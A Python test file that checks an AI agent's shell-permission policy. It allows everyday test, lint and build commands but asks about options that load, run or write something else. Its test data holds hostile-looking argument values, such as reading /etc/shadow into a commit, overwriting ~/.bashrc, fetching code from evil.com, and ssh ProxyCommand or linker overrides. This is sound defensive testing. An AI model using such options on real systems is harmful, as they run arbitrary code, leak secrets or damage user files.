"""Of calls of tools that check and build, which words a rule for the tool does not cover."""

import shlex

import pytest

from ebbtide.agent.calls.permission_request import PermissionRequest
from ebbtide.agent.calls.policy import Policy, decide, parse_rule
from ebbtide.tools.commands.tool_options import find_unsafe_argument_indices

RULES = (
    "pytest;ruff check;mypy;black;eslint;prettier;git add;git commit;git fetch;go test;go build;cargo test;"
    "cargo clippy;python -m pytest;npm test;npm ls;npm ci;pnpm test;poetry run pytest;tsc;shellcheck"
)


def verdict(command: str) -> str:
    policy = Policy("/w/app", "ask", tuple(parse_rule(f"bash({rule})") for rule in RULES.split(";")))
    return decide(PermissionRequest("bash", "run", (command,)), policy).verdict


@pytest.mark.parametrize(
    "command",
    [
        "pytest", "pytest -q", "pytest -xvs tests/test_a.py::test_b[1]", "pytest -k 'a and not b' --tb=short -n4",
        "pytest --maxfail=1 --lf -m slow tests", "ruff check --fix src",
        "ruff check . --select E,F --output-format concise",
        "mypy --strict src tests", "black --check -l 100 .", "eslint . --ext .ts,.tsx --max-warnings=0 --fix",
        "prettier --write src/a.ts", "git add -A", "git add src/a.py", "git commit -am 'say /etc what ../is done'",
        "git commit --amend --no-edit", "git fetch origin main --depth=1", "go test ./... -run TestA -count=1 -v",
        "go build ./cmd/x", "cargo test -p core --release -- --nocapture parses",
        "cargo clippy --all-targets -- -D warnings",
        "python -m pytest -q tests",
        "npm test", "npm test -- --coverage src/a.test.ts", "npm ls --depth=0", "npm ci --no-audit",
        "pnpm test -- -t 'adds up'", "poetry run pytest -q", "tsc --noEmit -p tsconfig.json",
        "shellcheck -x -s bash a.sh", "npm ls @scope/name", "git add @types/a.ts",
    ],
)  # fmt: skip
def test_everyday_calls_are_covered(command: str) -> None:
    assert verdict(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "npm test --script-shell=./x", "npm test --prefix /evil", "npm test --node-options=--require=./x",
        "npm test -C ../evil", "npm test -- --config=./evil.js", "npm test -- --globalSetup ./x.js",
        "pnpm test --dir /evil",
        "pytest -p evil", "pytest -c evil.ini", "pytest --pdbcls=evil:x", "pytest --junitxml=/home/u/.bashrc",
        "pytest --basetemp=/home/u", "pytest /evil/test.py", "pytest ../x", "pytest a/../../x", "pytest ~/x",
        "pytest --pyargs evil", "pytest -W error::evil.Warning", "pytest -qp evil", "poetry run pytest -p evil",
        "go test -exec ./x ./...", "go test -ldflags=-extld=./x", "go test -coverprofile=/x", "go test -C /evil",
        "go test evil.com/x@latest", "go test evil.com/x/...", "go build -o /x", "cargo test -C /evil",
        "cargo test --target-dir /home/u", "cargo test --config 'target.x.runner=\"./x\"'", "cargo test +evil -Z x",
        "cargo clippy -- -C linker=./x", "cargo clippy -- -Clinker=./x", "eslint --parser ./evil.js .",
        "eslint -f ./evil.js .", "eslint -c evil.js .", "ruff check --cache-dir=/x", "ruff check --config evil",
        "mypy --html-report /x", "mypy --install-types --non-interactive", "black /home/u", "prettier --write /home/u",
        "prettier --plugin=./x.js a", "git commit -S", "git commit -F /etc/shadow", "git commit -t /etc/shadow",
        "git fetch --upload-pack=./x", "git fetch /evil", "tsc --outDir /x", "tsc -p ../evil", "shellcheck -P /x a.sh",
        "pytest @words", "python -m pytest -p evil", "python -m pytest @words", "pytest -k @words",
        "ruff check @words", "mypy @words", "tsc @words", "eslint @words",
        "npm ci --cache=/x", "npm ls -C/evil", "black -q=x", "pytest --no-such-option",
    ],
)  # fmt: skip
def test_what_may_run_load_or_write_something_else_is_not(command: str) -> None:
    assert verdict(command) == "ask"


def test_a_rule_that_names_an_option_covers_it_and_nothing_more() -> None:
    policy = Policy("/w/app", "ask", (parse_rule("bash(pytest -p no:cacheprovider)"),))
    asked = (
        PermissionRequest("bash", "run", (f"pytest -p no:cacheprovider{more}",)) for more in ("", " -q", " -p evil")
    )
    assert [decide(each, policy).verdict for each in asked] == ["allow", "allow", "ask"]


@pytest.mark.parametrize(
    ("rule", "covered", "others"),
    [
        ("make test", "-j4;-j 2 -k;-s V=1", "deploy;-f x.mk;--eval=x;SHELL=./x;-C /tmp;CC=./x;-Ix"),
        ("make -k", "test", ""),
        ("npm run build", "-s;-- --config x;--if-present", "--script-shell=./x;--prefix ../x;-C x;--userconfig x"),
        ("pnpm run build", "--filter x", "--config.script-shell=x"),
        ("kubectl get", "pods -o yaml;-n x pods", "--kubeconfig=./x pods;-s http://x pods"),
        ("cargo run", "--release;-- --config x", "--config x;--manifest-path ../x;-Zx"),
        ("go list", "./...;-m all", "-toolexec x;-overlay=x ./...;-C .."),
        ("go env", "GOPATH", "-w CC=./x"),
        ("ssh host", "ls -lo", "-o ProxyCommand=x;-oProxyCommand=x;-F x"),
        ("rsync -a", "src out", "-e x a b;-ave x a b;--rsh=x a b"),
        ("curl -s", "http://x", "-K x;-sK x;--config x"),
        ("./gradlew test", "--stacktrace", "--init-script x;-I x"),
        ("node --check", "a.js", "-r ./x a.js;--require=./x a.js;-e x"),
        ("node a.js", "-r x;-e x", ""),
        ("ssh host ls", "-o --config x", ""),
        ("python train.py", "--config a.toml", ""),
        ("python -m train", "--config a.toml", ""),
        ("uv run scripts/train.py", "--config a.toml", ""),
        ("./run.sh all", "--config a.toml", ""),
        ("perl -c", "a.pl", "-e x;-Mx a.pl"),
        ("frobnicate all", "--no-config;--format x", "--config=x;--plugin x;--pager ./x;--pre-exec x"),
        ("frobnicate", "--config x;all", ""),
        ("go test", "-run x", "-pkgdir x"),
    ],
)
def test_a_rule_that_says_what_a_program_is_to_do_covers_no_option_that_leads_elsewhere(
    rule: str, covered: str, others: str
) -> None:
    policy = Policy("/w/app", "ask", (parse_rule(f"bash({rule})"),))

    def verdicts(more: str) -> set[str]:
        lines = [f"{rule} {words}" for words in more.split(";") if words]
        return {decide(PermissionRequest("bash", "run", (line,)), policy).verdict for line in lines}

    assert verdicts(covered) == {"allow"}
    assert verdicts(others) <= {"ask"}


def test_of_other_programs_nothing_is_said() -> None:
    assert find_unsafe_argument_indices(shlex.split("make --eval=x /evil")) == ()
    assert find_unsafe_argument_indices([]) == ()
